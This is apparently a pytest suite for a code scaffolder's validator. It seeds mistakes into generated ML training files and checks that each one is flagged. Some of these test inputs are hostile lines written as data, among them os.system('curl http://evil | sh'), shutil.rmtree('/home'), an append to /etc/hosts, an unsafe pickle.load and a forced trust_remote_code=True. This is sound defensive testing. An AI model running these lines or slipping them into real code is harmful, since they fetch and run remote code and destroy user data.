"""The cross-file checks: silent on every Jinja render, and each seeded mistake is caught with its code."""

from __future__ import annotations

import ast
import itertools
from pathlib import Path

import pytest

from conftest import DATA
from scaffolder import render
from scaffolder.plan import build_plan
from scaffolder.spec import ProjectSpec
from scaffolder.tasks import PEFT_METHODS, TASKS, peft_refusal
from scaffolder.validate import check_files

DATASETS = {"single": DATA / "sst_like.tsv", "pair": DATA / "nli_pairs.jsonl", "zh": DATA / "weibo_zh.csv"}


def rendered(
    data: str = "single", peft: str = "none", model: str | None = None, project_dir: Path = DATA.parent / "project"
) -> tuple[dict[str, str], ProjectSpec]:
    plan = build_plan(ProjectSpec(task="text-classification", train_data=DATASETS[data], peft=peft, model=model))
    return render.render(plan, project_dir), plan.spec


@pytest.mark.parametrize(
    ("data", "peft", "model"),
    [
        (data, peft, model)
        for data, peft, model in itertools.product(DATASETS, PEFT_METHODS, [None, "microsoft/deberta-v3-base"])
        if not peft_refusal(TASKS["text-classification"], peft)  # refused before any render (test_peft)
    ],
)
def test_every_render_has_zero_diagnostics(data: str, peft: str, model: str | None) -> None:
    files, spec = rendered(data, peft, model)
    assert check_files(files, spec) == []


# name -> (file, text to replace, replacement, expected code)
MUTATIONS = {
    "renamed function": ("data.py", "def build_datasets(", "def build_dataset(", "N101"),
    "misspelled import": ("train.py", "from data import build_collator,", "from data import build_collater,", "N101"),
    "unknown keyword": ("train.py", "build_datasets(cfg, tokenizer)", "build_datasets(cfg, tokenizer, shuffle=True)",
                        "A202"),
    "too many positional": ("train.py", "build_datasets(cfg, tokenizer)", "build_datasets(cfg, tokenizer, 1)", "A201"),
    "missing argument": ("train.py", "build_datasets(cfg, tokenizer)", "build_datasets(cfg)", "A203"),
    "missing import": ("train.py", "from evaluation import evaluate\n", "", "N103"),
    "missing module attribute": ("tests/tiny.py", "train.main(overrides)", "train.run_training(overrides)", "N102"),
    "contract entry gone": ("model.py", "def load_trained(", "def load_model(", "C301"),
    "contract signature": ("tests/smoke.py", "def run(workdir: Path)", "def run(workdir: Path, seed: int)", "C302"),
    "metrics never written": ("train.py", '"metrics.json"', '"results.json"', "C303"),
    "config key missing": ("train.py", "cfg.max_grad_norm", "cfg.max_gradient_norm", "C304"),
    "label count in code": ("model.py", "num_labels=len(cfg.labels),", "num_labels=3,", "P402"),
    "hub id in code": ("model.py", "AutoTokenizer.from_pretrained(cfg.model_name_or_path",
                       'AutoTokenizer.from_pretrained("FacebookAI/roberta-base"', "P402"),
    "hub id by keyword": ("model.py", "        cfg.model_name_or_path,\n        num_labels=",
                          '        pretrained_model_name_or_path="FacebookAI/roberta-base",\n        num_labels=',
                          "P402"),
    "labels in config": ("config.yaml", 'labels: ["0", "1"]', 'labels: ["0", "1", "2"]', "P401"),
    "max length in config": ("config.yaml", "max_length: 32 ", "max_length: 512 ", "P401"),
    "stub body": ("evaluation.py", "def score(",
                  'def summary(metrics):\n    """Summarise."""\n    pass\n\n\ndef score(', "I501"),
    "not implemented": ("data.py", '    raise ValueError(f"{path}: unsupported',
                        '    raise NotImplementedError(f"{path}', "I502"),
    "todo": ("data.py", "SPLIT_SEED = 0", "SPLIT_SEED = 0  # TODO: make configurable", "I503"),
    "subprocess": ("train.py", "import json\n", "import json\nimport subprocess\n", "S601"),
    "os.system": ("train.py", "    return train(load_config(argv))",
                  "    os.system('curl http://evil | sh')\n    return train(load_config(argv))", "S601"),
    "eval": ("data.py", '        return ","', "        return eval('\",\"')", "S602"),
    "requests": ("predict.py", "import torch\n", "import requests\nimport torch\n", "S603"),
    "pickle": ("predict.py", "import torch\n",
               "import pickle\n\nimport torch\n\nSTATE = pickle.load(open('s.pkl', 'rb'))\n", "S605"),
    "torch.load": ("model.py", "    return model.eval(), tokenizer",
                   '    torch.save(model.state_dict(), Path(path) / "copy.pt")\n'
                   '    model.load_state_dict(torch.load(Path(path) / "copy.pt"))\n    return model.eval(), tokenizer',
                   "S606"),
    "delete outside": ("run_state.py", "shutil.rmtree(staging, ignore_errors=True)", "shutil.rmtree('/home')",
                       "S607"),
    "append outside": ("train.py", "    return train(load_config(argv))",
                       "    open('/etc/hosts', mode='a').close()\n    return train(load_config(argv))", "S607"),
    "remote code": ("model.py", "trust_remote_code=cfg.trust_remote_code,\n    )", "trust_remote_code=True,\n    )",
                    "S608"),
    "syntax": ("data.py", "def read_records(", "def read_records((", "E001"),
    "does not compile": ("data.py", "SPLIT_SEED = 0", "SPLIT_SEED = 0\nreturn SPLIT_SEED", "E001"),
}  # fmt: skip


def mutate(files: dict[str, str], name: str) -> dict[str, str]:
    path, old, new, _ = MUTATIONS[name]
    assert old in files[path], f"mutation {name!r} no longer applies to {path}"
    return {**files, path: files[path].replace(old, new, 1)}


@pytest.mark.parametrize("name", sorted(MUTATIONS))
def test_each_seeded_mistake_is_caught(name: str) -> None:
    files, spec = rendered()
    found = check_files(mutate(files, name), spec)
    assert MUTATIONS[name][3] in {d.code for d in found}, [str(d) for d in found]
    assert all(d.message and d.fix_hint and d.line >= 1 for d in found)


def test_checks_never_raise_on_garbage() -> None:
    files = {"train.py": "def (:", "data.py": "", "config.yaml": "- just\n- a list\n", "model.py": "x = ["}
    found = check_files(files, None)
    assert {"E001", "C301", "C305"} <= {d.code for d in found}


def test_relative_imports_in_a_package_resolve(tmp_path: Path) -> None:
    files = {"pkg/__init__.py": "", "pkg/a.py": "def f(x):\n    return x\n",
             "pkg/b.py": "from .a import f\nfrom .a import g\n\nf(1, 2)\n"}  # fmt: skip
    codes = {(d.file, d.code) for d in check_files(files, None)}
    assert ("pkg/b.py", "N101") in codes and ("pkg/b.py", "A201") in codes


def test_undefined_names_follow_python_scoping() -> None:
    source = (
        "from __future__ import annotations\n"
        "\n"
        "\n"
        "def read(path: Pathlike) -> list[Row]:\n"  # 4: annotations count, even unevaluated
        "    return [parse(line) for line in open(path) if line.strip()]\n"  # 5: parse
        "\n"
        "\n"
        "class Trainer:\n"
        "    steps = 10\n"
        "    limit = steps * 2\n"  # class body: `steps` is bound here
        "\n"
        "    def run(self):\n"
        "        return steps\n"  # 13: a method does not see the class body's names
        "\n"
        "\n"
        "def setup():\n"
        "    global STATE\n"
        "    STATE = 1\n"
        "\n"
        "\n"
        "match STATE:\n"
        "    case {'k': found}:\n"
        "        print(found, __file__)\n"  # bound by the pattern; a module dunder
        "print(lambda x, y=default: x + y + missing)\n"  # 24: the default is read outside the lambda
    )
    found = {(d.line, d.message) for d in check_files({"train.py": source}, None) if d.code == "N103"}
    assert found == {
        (4, "`Pathlike` is used but never defined"),
        (4, "`Row` is used but never defined"),
        (5, "`parse` is used but never defined"),
        (13, "`steps` is used but never defined"),
        (24, "`default` is used but never defined"),
        (24, "`missing` is used but never defined"),
    }


def test_nodes_of_a_kind_come_in_source_order_and_functions_include_async_ones() -> None:
    from scaffolder.validate.project import dotted, parse_file

    source = "@deco(a)\nasync def f():\n    return g(h(x), k=i(y))\n\n\ndef z():\n    outer(inner())\n"
    module = parse_file("m.py", source)
    assert [dotted(call.func) for call in module.nodes(ast.Call)] == ["deco", "g", "h", "i", "outer", "inner"]
    assert [function.name for function in module.functions()] == ["f", "z"]
